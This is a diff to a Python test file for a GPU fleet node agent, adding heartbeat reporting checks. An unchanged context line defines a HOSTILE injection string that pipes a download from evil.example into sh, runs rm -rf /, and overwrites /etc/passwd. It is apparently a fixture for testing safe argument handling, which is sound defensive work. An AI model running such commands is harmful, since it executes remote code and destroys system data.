@@ -3,13 +3,14 @@
 from __future__ import annotations
 
 import json
+import time
 from collections.abc import Mapping
 from dataclasses import dataclass, field
 from typing import Any
 
 from gpufleet.agent.docker import docker_argv
 from gpufleet.agent.node import NodeAgent, RunManifest, RunOutcome
-from gpufleet.topology import DETAIL_NODE_FINISHED, DETAIL_NODE_STARTED
+from gpufleet.topology import DETAIL_NODE_FINISHED, DETAIL_NODE_HEARTBEAT, DETAIL_NODE_STARTED
 
 HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"
 
@@ -89,6 +90,7 @@ def test_the_agent_reports_start_then_finish_with_the_exit_code() -> None:
     assert reporter.reports[1][1] == {
         "job_id": "j-0123456789abcdef0123",
         "instance_id": "i-1",
+        "phase": "finished",
         "exit_code": 7,
         "reason": "",
     }
@@ -101,3 +103,30 @@ def test_a_missing_manifest_is_reported_as_a_failure_not_a_hang() -> None:
     assert outcome.exit_code is None
     assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_FINISHED]
     assert "manifest" in reporter.reports[0][1]["reason"]
+
+
+@dataclass
+class SlowRuntime:
+    seconds: float
+
+    def run(self, manifest: RunManifest) -> RunOutcome:
+        time.sleep(self.seconds)
+        return RunOutcome(exit_code=0)
+
+
+def test_the_agent_heartbeats_while_the_container_runs_and_stops_after() -> None:
+    document = json.dumps({"job_id": "j-0123456789abcdef0123", "image": "i", "command": ["a"]})
+    reporter = FakeReporter()
+    agent = NodeAgent(
+        FakeIdentity(),
+        FakeManifests({"runs/j-0123456789abcdef0123/run.json": document.encode()}),
+        reporter,
+        SlowRuntime(0.35),
+        heartbeat_seconds=0.1,
+    )
+    agent.run()
+    kinds = [kind for kind, _ in reporter.reports]
+    assert kinds[0] == DETAIL_NODE_STARTED and kinds[-1] == DETAIL_NODE_FINISHED
+    assert 2 <= kinds.count(DETAIL_NODE_HEARTBEAT) <= 4
+    time.sleep(0.25)
+    assert len(reporter.reports) == len(kinds)  # no heartbeat after the finish
